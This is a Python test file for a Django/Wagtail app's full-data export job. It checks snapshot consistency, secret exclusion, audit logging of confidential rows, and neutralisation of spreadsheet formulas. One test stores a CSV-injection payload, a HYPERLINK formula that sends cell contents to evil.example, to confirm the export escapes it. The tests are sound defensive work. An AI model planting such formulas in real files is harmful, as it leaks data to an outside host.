"""'Export everything' reads one consistent snapshot of the database."""

import csv
import io
import json
import threading
import zipfile

import PIL.Image
import pytest
from django.core.files.images import ImageFile
from django.core.files.storage import default_storage
from django.db import connection, transaction
from wagtail.images import get_image_model
from wagtail.models import Collection

from cms.services import set_up_public_site
from jobs import kinds
from jobs.kinds import export_everything
from jobs.models import Job
from jobs.runner import JobRun
from jobs.services import claim_job
from tests.factories.cms import news_page
from tests.factories.contacts import PersonEmailFactory, PersonFactory
from tests.factories.core import UserFactory


def png() -> bytes:
    buffer = io.BytesIO()
    PIL.Image.new("RGB", (4, 4), (10, 90, 160)).save(buffer, "PNG")
    return buffer.getvalue()


def exported_ids(archive, label):
    with archive.open(f"{label}.csv") as raw:
        return sorted(int(row["id"]) for row in csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8-sig")))


def claimed_export_job():
    job = Job.objects.create(kind="export_everything", owner=UserFactory(is_superuser=True))
    return claim_job(job_id=job.pk, task_id="test")


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(connection.vendor != "postgresql", reason="a second connection writing meanwhile needs PostgreSQL")
def test_export_everything_leaves_out_whole_a_write_committed_while_it_runs(monkeypatch, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    monkeypatch.setattr(kinds, "EXPORT_PROGRESS_EVERY", 1)
    before = PersonEmailFactory()
    run = JobRun(claimed_export_job())
    report = run.report
    meanwhile = {}

    def colleague_adds_a_person_with_an_email():
        # Another session, its own connection: a person and their e-mail address, committed together.
        with transaction.atomic():
            meanwhile["email"] = PersonEmailFactory(person=PersonFactory())
        connection.close()

    def report_then_let_a_colleague_write(**changes):
        report(**changes)
        if "core.User" in str(changes.get("message")) and not meanwhile:
            writer = threading.Thread(target=colleague_adds_a_person_with_an_email)
            writer.start()
            writer.join()

    run.report = report_then_let_a_colleague_write
    result = export_everything(run)

    with default_storage.open(result["file"]) as handle, zipfile.ZipFile(handle) as archive:
        people = exported_ids(archive, "contacts.Person")
        emails = exported_ids(archive, "contacts.PersonEmail")
    new = meanwhile["email"]
    assert (people, emails) == ([before.person_id], [before.pk])
    assert (result["counts"]["contacts.Person"], result["counts"]["contacts.PersonEmail"]) == (1, 1)
    assert sorted(p.pk for p in type(new.person).objects.all()) == [before.person_id, new.person_id]
    job = Job.objects.get(pk=run.job.pk)
    assert (job.progress, job.total) == (result["rows"], result["rows"])


@pytest.mark.django_db(transaction=True)
def test_snapshot_reads_in_one_transaction_and_still_records_progress():
    run = JobRun(claimed_export_job())

    with run.snapshot():
        inside = connection.in_atomic_block
        run.report(total=10, progress=4, message="halfway")

    job = Job.objects.get(pk=run.job.pk)
    assert inside is True
    assert (job.progress, job.total, job.message) == (4, 10, "halfway")


@pytest.mark.django_db(transaction=True)
def test_page_bodies_are_exported_as_their_stored_blocks_without_rendering(settings, tmp_path):
    # Found by the fault load test: str() of a StreamField rendered it, and an image block tried to write a
    # rendition inside the read-only snapshot, failing the whole export.
    settings.MEDIA_ROOT = str(tmp_path)
    if not Collection.get_first_root_node():  # a transactional test starts from an emptied database
        Collection.add_root(name="Root")
    Image = get_image_model()
    image = Image.objects.create(title="Signing", file=ImageFile(io.BytesIO(png()), name="signing.png"))
    body = [
        {"type": "paragraph", "value": "<p>調印式</p>"},
        {"type": "image", "value": {"image": image.pk, "caption": "署名", "alt_text": "調印"}},
    ]
    page = news_page(index=set_up_public_site().by_language["ja"].news_index, body=body)

    result = export_everything(JobRun(claimed_export_job()))

    with default_storage.open(result["file"]) as handle, zipfile.ZipFile(handle) as archive:
        with archive.open("cms.NewsPage.csv") as raw:
            rows = {row["page_ptr_id"]: row for row in csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8-sig"))}
    exported = json.loads(rows[str(page.pk)]["body"])
    assert [(block["type"], block["value"]) for block in exported] == [(b["type"], b["value"]) for b in body]
    assert not image.renditions.exists()


def test_only_kizunas_own_apps_are_exported_even_with_the_virtualenv_inside_the_project():
    # CI and the load test keep .venv in the project folder: Django's sessions, Wagtail's API tokens and the
    # permission tables are not Kizuna's data and must not be swept into the file.
    labels = {model._meta.app_label for model in kinds.exportable_models()}

    assert {"core", "contacts", "partners", "relations", "events", "trust"} <= labels
    assert not labels & {"sessions", "auth", "admin", "contenttypes", "wagtailcore", "wagtailusers", "taggit"}


def test_no_exported_field_looks_like_a_secret():
    harmless = {"translation_key", "item_key"}
    suspicious = [
        f"{model._meta.label}.{field.name}"
        for model in kinds.exportable_models()
        for field in kinds._export_fields(model)
        if field.name not in harmless
        and any(word in field.name for word in ("password", "secret", "token", "hash", "key", "session"))
    ]

    assert suspicious == []


@pytest.mark.django_db
def test_secrets_stay_out_of_the_export_file(settings, tmp_path):
    from core.services import issue_calendar_token
    from trust.models import TwoFactorDevice

    settings.MEDIA_ROOT = str(tmp_path)
    user = UserFactory(username="sato")
    user.set_password("a long passphrase for sato")
    user.save()
    token, secret = issue_calendar_token(user=user)
    device = TwoFactorDevice.objects.create(user=user, secret="JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP")

    result = export_everything(JobRun(claimed_export_job()))

    with default_storage.open(result["file"]) as handle, zipfile.ZipFile(handle) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        names = archive.namelist()
    assert {"trust.TwoFactorDevice.csv", "core.CalendarFeedToken.csv"} <= set(names)
    for value in (user.password, device.secret, token.token_hash, secret):
        assert value.encode() not in everything
    assert not any(name.startswith("sessions.") for name in names)


@pytest.mark.django_db(transaction=True)
def test_export_everything_records_the_confidential_rows_of_its_snapshot_once_it_has_ended(settings, tmp_path):
    # On PostgreSQL the snapshot is a READ ONLY transaction: the readings can only be written after it.
    from core.choices import Confidentiality
    from tests.factories.relations import EngagementFactory, FollowUpFactory
    from tests.trust.readings import reading_entries, readings

    settings.MEDIA_ROOT = str(tmp_path)
    secret = EngagementFactory(confidentiality=Confidentiality.CONFIDENTIAL)
    secret_task = FollowUpFactory(engagement=secret, confidentiality=Confidentiality.CONFIDENTIAL)
    internal = EngagementFactory(confidentiality=Confidentiality.INTERNAL)
    run = JobRun(claimed_export_job())

    result = export_everything(run)

    owner = run.job.owner_id
    assert result["confidential_rows"] == 2
    assert readings(secret, secret_task, internal) == [(secret, owner, "export"), (secret_task, owner, "export")]
    assert reading_entries(secret)[0].data == {"surface": "export", "job": run.job.pk}


@pytest.mark.django_db
def test_export_everything_writes_formula_text_with_an_apostrophe_first(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    person = PersonFactory(family_name_latin=formula, given_name_latin="+81 3 1234 5678", notes="-2+3")

    result = export_everything(JobRun(claimed_export_job()))

    with default_storage.open(result["file"]) as handle, zipfile.ZipFile(handle) as archive:
        with archive.open("contacts.Person.csv") as raw:
            rows = list(csv.reader(io.TextIOWrapper(raw, encoding="utf-8-sig", newline="")))
    headers, row = rows[0], next(row for row in rows[1:] if row[0] == str(person.pk))
    assert [row[headers.index(name)] for name in ("family_name_latin", "given_name_latin", "notes")] == [
        "'" + formula,
        "'+81 3 1234 5678",
        "'-2+3",
    ]
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
